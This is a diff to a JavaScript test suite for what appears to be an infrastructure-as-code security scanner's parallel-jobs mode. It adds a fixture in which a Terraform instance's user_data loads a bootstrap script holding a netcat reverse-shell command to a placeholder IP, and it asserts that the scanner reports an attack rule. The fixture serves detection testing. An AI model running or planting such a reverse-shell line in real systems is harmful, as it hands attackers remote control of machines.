@@ -56,6 +56,9 @@ describe('cli --jobs', function () {
 		await writeFile(path.join(root, 'blob.tf'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1]));
 		await writeFile(path.join(root, 'huge.tf'), SSH(0).repeat(200));
 		await writeFile(path.join(root, 'README.md'), '# not IaC\n');
+		// A script only a Terraform file says is one: the thread that scans the Terraform finds it.
+		await writeFile(path.join(root, 'stack-0', 'workers.tf'), 'resource "aws_instance" "w" {\n  user_data = file("../bootstrap")\n}\n');
+		await writeFile(path.join(root, 'bootstrap'), 'nc -e /bin/sh 203.0.113.9 4444\n');
 	});
 
 	after(async () => {
@@ -92,6 +95,7 @@ describe('cli --jobs', function () {
 			assert.equal(one.code, 1, one.stderr);
 			assert.deepEqual(three, one);
 			assert.ok(one.stdout.length > 1000);
+			assert.match(one.stdout, /AUP-ATK-001/);
 		});
 	}
 
